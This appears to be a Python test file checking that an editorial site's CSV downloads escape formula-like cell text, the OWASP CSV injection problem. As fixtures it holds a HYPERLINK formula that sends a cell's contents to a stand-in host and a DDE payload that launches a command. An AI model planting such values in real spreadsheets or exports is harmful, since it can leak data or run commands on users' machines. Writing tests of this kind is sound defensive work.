"""Every CSV download shows an editor's formula-like text as text (OWASP)."""

import csv
import io
from decimal import Decimal

import pytest

from editorial.spreadsheet import csv_cell
from tests.factories import FigureFactory, StudyFigureFactory

HYPERLINK = '=HYPERLINK("https://example.invalid/?leak="&A1, "Click")'
COMMAND = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped(start):
    assert csv_cell(f"{start}1") == f"'{start}1"


@pytest.mark.parametrize("text", ["Housing advice", "", "a=b", "12%"])
def test_plain_text_is_left_alone(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-3, "-3"), (Decimal("-12.5"), "-12.5"), (0.5, "0.5"), (None, ""), (True, "true")],
)
def test_numbers_the_site_computed_stay_numbers(value, cell):
    assert csv_cell(value) == cell


def test_a_number_typed_as_text_is_escaped():
    assert csv_cell("-3") == "'-3"


def _rows(client, url):
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_snapshot_download_escapes_formulas(client, no_content):
    figure = FigureFactory(title=HYPERLINK, subgroup=COMMAND, count=3)
    rows = _rows(client, f"/snapshot/{figure.snapshot.slug}/figures.csv")
    assert [(r["title"], r["subgroup"], r["count"]) for r in rows] == [
        ("'" + HYPERLINK, "'" + COMMAND, "3")
    ]


def test_study_download_escapes_formulas(client, no_content):
    StudyFigureFactory(study__name=COMMAND, title=HYPERLINK)
    rows = _rows(client, "/snapshot/other-studies.csv")
    assert [(r["study"], r["label"]) for r in rows] == [
        ("'" + COMMAND, "'" + HYPERLINK)
    ]
